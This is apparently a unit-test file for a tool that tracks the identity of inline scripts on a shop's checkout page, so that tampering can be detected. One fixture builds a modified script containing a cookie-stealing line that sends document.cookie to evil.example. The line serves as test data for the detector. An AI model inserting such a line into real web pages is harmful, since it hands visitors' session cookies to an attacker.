// Unit: stable identities for inline and runtime code, matched by content.

import assert from 'node:assert/strict';
import { describe, it } from 'vitest';
import type { KnownScript } from '../../src/plan/baseline.js';
import { frameScope, frameScopeOfKey, matchAnonymous, scriptUrlIdentity, similarity, stripFragment } from '../../src/plan/identity.js';

function known(id: number, body: string, sha: string): KnownScript {
  return { id, key: `inline:${sha}`, kind: 'inline', url: null, frameUrl: 'https://shop.example/', retired: false, missingStreak: 0, accepted: [sha], acceptedNormalized: [], lastSha: sha, lastBody: body, mask: { disabled: [], learned: [] }, library: null };
}

describe('matchAnonymous', () => {
  const a = known(1, 'var config = { currency: "EUR" };\nwindow.init(config);', 'aaa');
  const b = known(2, 'window.dataLayer = [];\ndataLayer.push({ page: "checkout" });', 'bbb');

  it('matches identical content regardless of order', () => {
    const matches = matchAnonymous([{ index: 0, sha256: 'bbb', normalized: 'n-bbb', body: b.lastBody! }, { index: 1, sha256: 'aaa', normalized: 'n-aaa', body: a.lastBody! }], [a, b]);
    assert.deepEqual([...matches.entries()].sort(), [[0, 2], [1, 1]]);
  });

  it('pairs a modified script with the one it most resembles', () => {
    const modified = 'window.dataLayer = [];\ndataLayer.push({ page: "checkout" });\nnew Image().src = "https://evil.example/?" + document.cookie;';
    const matches = matchAnonymous([{ index: 0, sha256: 'aaa', normalized: 'n-aaa', body: a.lastBody! }, { index: 1, sha256: 'ccc', normalized: 'n-ccc', body: modified }], [a, b]);
    assert.equal(matches.get(1), 2);
    assert.equal(matches.get(0), 1);
  });

  it('leaves a genuinely new script unmatched when nothing is free', () => {
    const matches = matchAnonymous([
      { index: 0, sha256: 'aaa', normalized: 'n-aaa', body: a.lastBody! },
      { index: 1, sha256: 'bbb', normalized: 'n-bbb', body: b.lastBody! },
      { index: 2, sha256: 'ddd', normalized: 'n-ddd', body: 'totally different();' },
    ], [a, b]);
    assert.equal(matches.has(2), false);
  });
});

describe('identity helpers', () => {
  it('scores similarity between 0 and 1', () => {
    assert.equal(similarity('a;b;c', 'a;b;c'), 1);
    assert.equal(similarity('a', 'b'), 0);
  });
  it('scopes subframe scripts by frame URL without query or fragment', () => {
    assert.equal(frameScope({ isMainFrame: true, frameUrl: 'https://a/' }), '');
    assert.equal(frameScope({ isMainFrame: false, frameUrl: 'https://pay.example/frame?session=1#x' }), '[frame https://pay.example/frame] ');
    // A key's scope is read back by one helper, wherever keys are grouped by frame.
    const framed = `${frameScope({ isMainFrame: false, frameUrl: 'https://pay.example/frame' })}https://pay.example/sdk.js`;
    assert.equal(frameScopeOfKey(framed), '[frame https://pay.example/frame] ');
    assert.equal(frameScopeOfKey('https://shop.example/app.js'), '');
    assert.equal(stripFragment('https://a/x.js#y'), 'https://a/x.js');
  });

  it('keeps one identity across cache-busting query strings, but not across other parameters', () => {
    const base = 'https://shop.example/static/app.js';
    for (const url of [`${base}?v=123`, `${base}?cb=8f3a9c2e71d04b5a9e`, `${base}?_=1732262400000`, `${base}?ver=2.4&t=1732262400`, `${base}#x`]) {
      assert.equal(scriptUrlIdentity(url), base, url);
    }
    assert.equal(scriptUrlIdentity('https://cdn.example/gtm.js?id=GTM-AB12&cb=123456789'), 'https://cdn.example/gtm.js?id=GTM-AB12');
    assert.notEqual(scriptUrlIdentity('https://cdn.example/loader.js?account=1'), scriptUrlIdentity('https://cdn.example/loader.js?account=2'));
  });
});
